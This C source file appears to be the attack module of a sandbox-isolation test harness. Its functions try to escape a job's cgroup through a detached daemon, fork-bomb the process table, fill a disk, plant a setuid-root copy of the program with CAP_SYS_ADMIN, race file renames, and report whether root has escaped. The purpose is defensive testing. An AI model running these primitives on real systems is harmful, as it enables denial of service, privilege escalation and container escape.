// SPDX-License-Identifier: Apache-2.0
//
// What a job tries to leave behind, to fill or to become; the test judges by what it then sees.

#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

// A process that the test has lost sight of ends by itself after that many seconds.
enum { LIFE = 1200 };

static int enter_cgroup(const char *path, const struct stat *st, int type, struct FTW *at)
{
	(void)st;
	if (type == FTW_F && !strcmp(path + at->base, "cgroup.procs")) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 && write(fd, "0", 1) == 1)
			close(fd);
	}
	return 0;
}

// detach does all that daemons do to be forgotten by who started them.
static void detach(void)
{
	for (int i = 0; i < 2; i++) {
		pid_t pid = fork();
		if (pid > 0)
			_exit(0);
		if (pid < 0)
			exit(1);
		setsid();
	}
	for (int fd = 0; fd < 64; fd++)
		close(fd);
	if (chdir("/"))
		_exit(1);
	for (int s = 1; s < NSIG; s++)
		if (s != SIGALRM)
			signal(s, SIG_IGN);
	alarm(LIFE);
}

int be_daemon(void)
{
	detach();
	nftw("/sys/fs/cgroup", enter_cgroup, 16, FTW_PHYS); // out of the job's, if one can be written
	for (;;)
		pause();
}

// be_bomb makes processes until it may not, and says how many there are.
int be_bomb(int count)
{
	int made = 0;
	for (; made < count; made++) {
		pid_t pid = fork();
		if (pid < 0)
			break;
		if (pid == 0) {
			setsid();
			for (int fd = 0; fd < 3; fd++)
				close(fd);
			alarm(LIFE);
			for (;;)
				pause();
		}
	}
	printf("%d processes, then: %s\n", made, made < count ? strerror(errno) : "enough");
	return 0;
}

int fill(const char *directory, int megabytes)
{
	static char block[1 << 20];
	char path[200];
	snprintf(path, sizeof path, "%s/attack-fill", directory);
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600), written = 0, why = errno;
	for (; fd >= 0 && written < megabytes; written++) {
		memset(block, written + 1, sizeof block);
		ssize_t done = write(fd, block, sizeof block);
		if (done >= 0 && done < (ssize_t)sizeof block)
			done = write(fd, block,
				     sizeof block); // the first one took the room that was left; this one says why
		if (done != sizeof block) {
			why = errno;
			break;
		}
	}
	printf("%s: %d MB, then: %s\n", directory, written, written < megabytes ? strerror(why) : "enough");
	return 0;
}

// am_i_root says whether this program, which is setuid root on disk, has become root of the node.
int am_i_root(void)
{
	char map[100] = "";
	int fd = open("/proc/self/uid_map", O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? 0 : read(fd, map, sizeof map - 1);
	unsigned inside = 0, outside = 1, count = 0;
	sscanf(n > 0 ? map : "", "%u %u %u", &inside, &outside, &count);
	bool initial = inside == 0 && outside == 0 && count == 4294967295u; // user_namespaces(7)
	FILE *status = fopen("/proc/self/status", "re");
	unsigned long long effective = 0;
	for (char line[200]; status && fgets(line, sizeof line, status);)
		sscanf(line, "CapEff: %llx", &effective);
	bool root = initial && (geteuid() == 0 || effective);
	printf("root %s uid %d, euid %d, capabilities %llx%s\n", root ? "ESCAPED" : "HELD", getuid(), geteuid(),
	       effective, initial ? "" : ", in a user namespace");
	return 0;
}

// copy_self puts this program where path says and gives it all that its user can: root as its
// owner, the setuid and setgid bits, file capabilities.
int copy_self(const char *path)
{
	static char text[4 << 20];
	// struct vfs_cap_data, version 2, effective: CAP_SYS_ADMIN, 21 (include/uapi/linux/capability.h).
	static const unsigned char capabilities[20] = {1, 0, 0, 2, 0, 0, 1 << (21 - 16)};
	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC),
	    to = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	ssize_t size = from < 0 ? -1 : read(from, text, sizeof text);
	if (to < 0 || size <= 0 || write(to, text, size) != size) {
		perror(path);
		return 1;
	}
	if (fchown(to, 0, 0) < 0)
		perror("chown");
	if (fsetxattr(to, "security.capability", capabilities, sizeof capabilities, 0) < 0)
		perror("capabilities");
	if (fchmod(to, 06755) < 0)
		perror("chmod");
	return 0;
}

// swap_names exchanges two names again and again until it is ended, and leaves the processor to its victims in between.
int swap_names(const char *one, const char *other)
{
	enum { EXCHANGE = 2 }; // renameat2(2)
	alarm(LIFE);
	for (;;) {
		if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, EXCHANGE) < 0) {
			perror("swap");
			return 1;
		}
		usleep(10);
	}
}
